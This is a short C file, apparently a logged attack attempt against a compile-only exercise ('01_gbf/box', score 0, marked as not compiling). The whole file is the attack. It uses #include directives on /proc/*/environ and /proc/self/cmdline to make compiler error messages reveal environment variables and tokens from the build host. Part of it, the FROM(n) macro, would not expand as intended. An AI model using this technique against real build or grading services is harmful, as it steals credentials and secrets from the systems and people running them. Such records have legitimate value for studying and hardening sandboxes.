// attack: includes the environment of every low process number, so that a message quotes tokens
// exercise: 01_gbf/box
// from: own
// score: 0
// compiles: no
#define FROM(n) </proc/n/environ>
#if __has_include(</proc/1/environ>)
int before = 1 +
#include FROM(1)
#include "/proc/thread-self/../../../environ"
    ;
#endif
#include "/proc/self/cmdline"
